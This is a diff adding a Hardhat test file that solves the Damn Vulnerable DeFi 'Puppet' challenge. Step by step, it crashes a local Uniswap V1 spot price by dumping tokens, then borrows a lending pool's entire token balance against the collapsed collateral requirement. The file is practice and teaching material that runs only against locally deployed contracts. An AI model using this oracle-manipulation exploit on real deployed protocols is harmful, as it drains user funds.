@@ -0,0 +1,133 @@
+const { ethers } = require("hardhat");
+const { expect } = require("chai");
+
+const { getInputPrice } = require("../lib/pricing");
+const { getDeadline } = require("../lib/slippage");
+
+const eth = ethers.utils.parseEther;
+
+// Damn Vulnerable DeFi challenge 8 ("Puppet") parameters
+const UNISWAP_INITIAL_TOKEN_RESERVE = eth("10");
+const UNISWAP_INITIAL_ETH_RESERVE = eth("10");
+const PLAYER_INITIAL_TOKEN_BALANCE = eth("1000");
+const PLAYER_INITIAL_ETH_BALANCE = eth("25");
+const POOL_INITIAL_TOKEN_BALANCE = eth("100000");
+
+const deadline = () => getDeadline(ethers.provider, 300);
+
+async function gasCost(tx) {
+  const { gasUsed, effectiveGasPrice } = await tx.wait();
+  return gasUsed.mul(effectiveGasPrice);
+}
+
+describe("PuppetPool: oracle manipulation", function () {
+  before(async function () {
+    const [deployer, player] = await ethers.getSigners();
+    this.player = player;
+
+    const tokenFactory = await ethers.getContractFactory("ERC20Test");
+    this.token = await tokenFactory.deploy("Damn Valuable Token", "DVT", ethers.constants.MaxUint256);
+
+    const uniswapFactoryFactory = await ethers.getContractFactory("UniswapFactoryV1");
+    const uniswapFactory = await uniswapFactoryFactory.deploy();
+    await uniswapFactory.createExchange(this.token.address);
+    this.exchange = await ethers.getContractAt(
+      "UniswapExchangeV1",
+      await uniswapFactory.getExchange(this.token.address)
+    );
+
+    await this.token.approve(this.exchange.address, UNISWAP_INITIAL_TOKEN_RESERVE);
+    await this.exchange.addLiquidity(0, UNISWAP_INITIAL_TOKEN_RESERVE, await deadline(), {
+      value: UNISWAP_INITIAL_ETH_RESERVE,
+    });
+
+    const poolFactory = await ethers.getContractFactory("PuppetPool");
+    this.pool = await poolFactory.deploy(this.token.address, this.exchange.address);
+    await this.token.transfer(this.pool.address, POOL_INITIAL_TOKEN_BALANCE);
+
+    await this.token.transfer(player.address, PLAYER_INITIAL_TOKEN_BALANCE);
+    await ethers.provider.send("hardhat_setBalance", [
+      player.address,
+      ethers.utils.hexValue(PLAYER_INITIAL_ETH_BALANCE),
+    ]);
+  });
+
+  it("step 1: the pool prices tokens at the exchange spot rate", async function () {
+    const { pool, player } = this;
+
+    // 10 ETH / 10 DVT => 1 ETH per token, twice that as collateral
+    expect(await pool.calculateDepositRequired(eth("1"))).to.be.eq(eth("2"));
+    expect(await pool.calculateDepositRequired(POOL_INITIAL_TOKEN_BALANCE)).to.be.eq(POOL_INITIAL_TOKEN_BALANCE.mul(2));
+
+    // honest borrowing of the whole pool is far out of the player's reach
+    await expect(
+      pool.connect(player).borrow(POOL_INITIAL_TOKEN_BALANCE, player.address, { value: eth("24") })
+    ).to.be.revertedWith("Not enough collateral");
+  });
+
+  it("step 2: dumping tokens into the exchange crashes the spot price", async function () {
+    const { token, exchange, player } = this;
+
+    const ethBought = getInputPrice(
+      PLAYER_INITIAL_TOKEN_BALANCE,
+      UNISWAP_INITIAL_TOKEN_RESERVE,
+      UNISWAP_INITIAL_ETH_RESERVE
+    );
+    expect(await exchange.getTokenToEthInputPrice(PLAYER_INITIAL_TOKEN_BALANCE)).to.be.eq(ethBought);
+
+    const ethBefore = await ethers.provider.getBalance(player.address);
+    let cost = await gasCost(await token.connect(player).approve(exchange.address, PLAYER_INITIAL_TOKEN_BALANCE));
+    cost = cost.add(
+      await gasCost(
+        await exchange.connect(player).tokenToEthSwapInput(PLAYER_INITIAL_TOKEN_BALANCE, 1, await deadline())
+      )
+    );
+
+    this.ethReserve = UNISWAP_INITIAL_ETH_RESERVE.sub(ethBought);
+    this.tokenReserve = UNISWAP_INITIAL_TOKEN_RESERVE.add(PLAYER_INITIAL_TOKEN_BALANCE);
+
+    expect(await ethers.provider.getBalance(exchange.address)).to.be.eq(this.ethReserve);
+    expect(await token.balanceOf(exchange.address)).to.be.eq(this.tokenReserve);
+    expect(await token.balanceOf(player.address)).to.be.eq(0);
+    expect(await ethers.provider.getBalance(player.address)).to.be.eq(ethBefore.add(ethBought).sub(cost));
+
+    // less than 1% of the ETH side is left behind
+    expect(this.ethReserve).to.be.lt(eth("0.1"));
+  });
+
+  it("step 3: the collateral requirement collapses with it", async function () {
+    const { pool, player } = this;
+
+    const price = this.ethReserve.mul(eth("1")).div(this.tokenReserve);
+    this.depositRequired = POOL_INITIAL_TOKEN_BALANCE.mul(price).mul(2).div(eth("1"));
+
+    expect(await pool.calculateDepositRequired(POOL_INITIAL_TOKEN_BALANCE)).to.be.eq(this.depositRequired);
+    // from 200000 ETH to under 20 ETH
+    expect(this.depositRequired).to.be.lt(eth("20"));
+    expect(this.depositRequired).to.be.lt(await ethers.provider.getBalance(player.address));
+  });
+
+  it("step 4: the player drains the pool", async function () {
+    const { token, pool, player } = this;
+
+    const ethBefore = await ethers.provider.getBalance(player.address);
+    // overpaying is refunded
+    const tx = await pool
+      .connect(player)
+      .borrow(POOL_INITIAL_TOKEN_BALANCE, player.address, { value: this.depositRequired.add(eth("1")) });
+    const cost = await gasCost(tx);
+
+    await expect(tx)
+      .to.emit(pool, "Borrowed")
+      .withArgs(player.address, player.address, this.depositRequired, POOL_INITIAL_TOKEN_BALANCE);
+
+    expect(await token.balanceOf(pool.address)).to.be.eq(0);
+    expect(await token.balanceOf(player.address)).to.be.eq(POOL_INITIAL_TOKEN_BALANCE);
+    expect(await pool.deposits(player.address)).to.be.eq(this.depositRequired);
+    expect(await ethers.provider.getBalance(pool.address)).to.be.eq(this.depositRequired);
+    expect(await ethers.provider.getBalance(player.address)).to.be.eq(ethBefore.sub(this.depositRequired).sub(cost));
+
+    // 100x the tokens the player started with, paid for with less ETH than they had
+    expect(await token.balanceOf(player.address)).to.be.gte(PLAYER_INITIAL_TOKEN_BALANCE.mul(100));
+  });
+});